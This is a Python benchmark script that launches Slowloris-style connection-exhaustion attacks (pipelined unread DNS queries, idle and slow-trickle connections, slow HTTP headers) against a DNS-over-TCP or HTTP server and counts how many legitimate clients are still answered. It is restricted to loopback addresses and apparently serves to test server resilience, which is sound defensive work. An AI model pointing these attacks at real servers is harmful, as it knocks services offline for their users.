#!/usr/bin/env python3
"""Slowloris against one DNS-over-TCP or HTTP server, counting legitimate clients answered.

    slowloris.py dns  ADDR PORT ATTACK [--attackers N] [--secs S]   ATTACK: pipeline | idle | slow
    slowloris.py http ADDR PORT ATTACK [--attackers N] [--secs S]   ATTACK: idle | keepalive | slow

While the attack runs (S seconds), a legitimate client starts every 100 ms: connect, ask one
question (DNS: ns.example.com A; HTTP: GET /resolve?name=ns.example.com&type=A, Connection:
close), and count it answered if the reply comes within 2 s. Attackers that the server lets go of
reconnect at once. Prints one line: "answered TOTAL attacker-connections". Loopback only: the
address must be in 127.0.0.0/8.
"""
import argparse
import asyncio
import ipaddress
import struct
import sys
import time


def dns_query(qid, name, qtype):
    q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    for label in name.rstrip(".").split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\x00" + struct.pack(">HH", qtype, 1)
    return struct.pack(">H", len(q)) + q


LEGIT_TIMEOUT = 2.0


async def legit_dns(addr, port, qid):
    async def ask():
        r, w = await asyncio.open_connection(addr, port)
        try:
            w.write(dns_query(qid, "ns.example.com.", 1))
            await w.drain()
            n = struct.unpack(">H", await r.readexactly(2))[0]
            reply = await r.readexactly(n)
            return reply[:2] == struct.pack(">H", qid)
        finally:
            w.close()
    try:
        return await asyncio.wait_for(ask(), LEGIT_TIMEOUT)
    except Exception:
        return False


HTTP_GET = (b"GET /resolve?name=ns.example.com&type=A HTTP/1.1\r\nHost: bench\r\n"
            b"Connection: close\r\n\r\n")


async def legit_http(addr, port, _qid):
    async def ask():
        r, w = await asyncio.open_connection(addr, port)
        try:
            w.write(HTTP_GET)
            await w.drain()
            head = await r.readuntil(b"\r\n")
            return head.split(b" ")[1] == b"200"
        finally:
            w.close()
    try:
        return await asyncio.wait_for(ask(), LEGIT_TIMEOUT)
    except Exception:
        return False


async def hold_until_closed(r, w, stop, feed=None, every=0.1):
    """Keeps a connection until the server closes it or `stop`; `feed` bytes are written every
    `every` seconds (None: write nothing and watch for EOF)."""
    while not stop.is_set():
        if feed is None:
            try:
                data = await asyncio.wait_for(r.read(65536), every)
                if not data:
                    return
            except asyncio.TimeoutError:
                pass
            continue
        try:
            w.write(feed())
            await asyncio.wait_for(w.drain(), every * 2)
        except asyncio.TimeoutError:
            # The server stopped reading: we are holding it.
            pass
        except Exception:
            return
        await asyncio.sleep(every)


async def attacker(kind, proto, addr, port, stop, counter):
    big = b"".join(dns_query(i, "big.example.com.", 16) for i in range(2000))
    while not stop.is_set():
        try:
            r, w = await asyncio.wait_for(asyncio.open_connection(addr, port), 2)
        except Exception:
            await asyncio.sleep(0.05)
            continue
        counter[0] += 1
        try:
            if proto == "dns" and kind == "pipeline":
                # Pipeline queries with ~4 KB replies and never read one.
                w.transport.set_write_buffer_limits(high=1 << 20)
                pos = [0]

                def more():
                    p = pos[0] % len(big)
                    pos[0] += 4096
                    return big[p:p + 4096]
                await hold_until_closed(r, w, stop, more, 0.05)
            elif kind == "idle":
                await hold_until_closed(r, w, stop)
            elif proto == "dns" and kind == "slow":
                msg = dns_query(7, "ns.example.com.", 1)
                pos = [0]

                def one():
                    b = msg[pos[0] % len(msg):pos[0] % len(msg) + 1]
                    pos[0] += 1
                    return b
                await hold_until_closed(r, w, stop, one, 0.2)
            elif proto == "http" and kind == "keepalive":
                w.write(b"GET /healthz HTTP/1.1\r\nHost: bench\r\n\r\n")
                await hold_until_closed(r, w, stop)
            elif proto == "http" and kind == "slow":
                w.write(b"GET /healthz HTTP/1.1\r\nHost: bench\r\nX-Pad: ")
                await hold_until_closed(r, w, stop, lambda: b"a" * 64, 0.2)
            else:
                sys.exit(f"unknown attack {proto} {kind}")
        finally:
            w.close()


async def main():
    p = argparse.ArgumentParser()
    p.add_argument("proto", choices=["dns", "http"])
    p.add_argument("addr")
    p.add_argument("port", type=int)
    p.add_argument("attack")
    p.add_argument("--attackers", type=int, default=32)
    p.add_argument("--secs", type=float, default=10)
    a = p.parse_args()
    if not ipaddress.ip_address(a.addr).is_loopback:
        sys.exit("loopback addresses only")
    stop = asyncio.Event()
    counter = [0]
    tasks = [asyncio.create_task(attacker(a.attack, a.proto, a.addr, a.port, stop, counter))
             for _ in range(a.attackers)]
    await asyncio.sleep(1.0)  # let the attack take every slot first
    legit = legit_dns if a.proto == "dns" else legit_http
    clients = []
    end = time.monotonic() + a.secs
    qid = 1
    while time.monotonic() < end:
        clients.append(asyncio.create_task(legit(a.addr, a.port, qid)))
        qid += 1
        await asyncio.sleep(0.1)
    results = await asyncio.gather(*clients)
    stop.set()
    await asyncio.wait(tasks, timeout=5)
    for t in tasks:
        t.cancel()
    print(sum(results), len(results), counter[0])


asyncio.run(main())
